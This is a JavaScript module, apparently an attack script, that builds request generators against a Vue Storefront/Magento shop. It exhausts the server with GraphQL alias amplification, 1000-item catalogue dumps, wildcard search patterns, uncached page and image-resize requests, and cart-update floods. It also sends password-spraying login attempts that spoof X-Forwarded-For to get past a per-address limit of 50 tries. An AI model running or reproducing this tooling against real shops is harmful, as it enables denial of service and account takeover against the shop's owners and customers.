// The costliest request of each kind, one after the other on one connection.
const SEARCH = '/api/catalog/vue_storefront_magento_4/product/_search'
const many = (count, make) => Array.from({ length: count }, (_, number) => make(number))
const json = (body) => ({ method: 'POST', body: JSON.stringify(body), headers: { 'content-type': 'application/json' } })

const everything = (number, index) => `pageSize: 999, _sourceExclude: ["x${number}-${index}"]`

/**
 * @typedef {{ path: string, method?: string, body?: string, headers?: Record<string, string> }} Sent
 * @param {{ category: string, pictures: readonly string[], cart: { id: string, item: object } }} shop
 * @returns {Record<string, (number: number) => Sent>} the request with this number, which is new each time
 */
export function attacks({ category, pictures, cart }) {
  const sizes = ['150/150', '310/300', '600/744', '1200/1488', '3000/3720']
  const formats = ['image/avif', 'image/webp', 'image/jpeg']
  return {
    'field patterns': (number) => ({
      path: '/api/url/map',
      ...json({ url: 'speglar', includeFields: many(64, (index) => `*e*e*e*e${number}${index}`) }),
    }),
    'GraphQL with ten aliases': (number) => ({
      path: '/graphql',
      ...json({
        query: `{ ${many(10, (index) => `a${index}: products(${everything(number, index)}) { items }`).join(' ')} }`,
      }),
    }),
    'the whole catalogue': (number) => ({
      path: `${SEARCH}?size=1000&_source_exclude=x${number}`,
      ...json({}),
      headers: { 'content-type': 'application/json', 'accept-encoding': 'gzip' },
    }),
    'wildcards in a search': (number) => ({
      path: `${SEARCH}?size=1000&_source_include=sku`,
      ...json({
        query: { bool: { should: many(10, (index) => ({ wildcard: { description: `*e*a${number}*${index}*` } })) } },
      }),
    }),
    'pages that are not cached': (number) => ({ path: `${category}?childSku=${number}` }),
    pictures: (number) => ({
      path:
        `/img/${sizes[number % 5]}/${number % 2 ? 'fit' : 'resize'}` +
        pictures[Math.floor(number / 10) % pictures.length],
      headers: { accept: formats[number % 3] },
    }),
    passwords: (number) => {
      const { headers, ...sent } = json({ username: `a${number}@example.se`, password: 'kompass-molnet-7' })
      // From one address 50 tries are let through, which would end the attack after some seconds.
      const address = `203.0.113.${1 + (Math.floor(number / 40) % 250)}`
      return { path: '/api/user/login', ...sent, headers: { ...headers, 'x-forwarded-for': address } }
    },
    'changes of a cart': (number) => ({
      path: `/api/cart/update?cartId=${cart.id}`,
      ...json({ cartItem: { ...cart.item, qty: 1 + (number % 9) } }),
    }),
  }
}
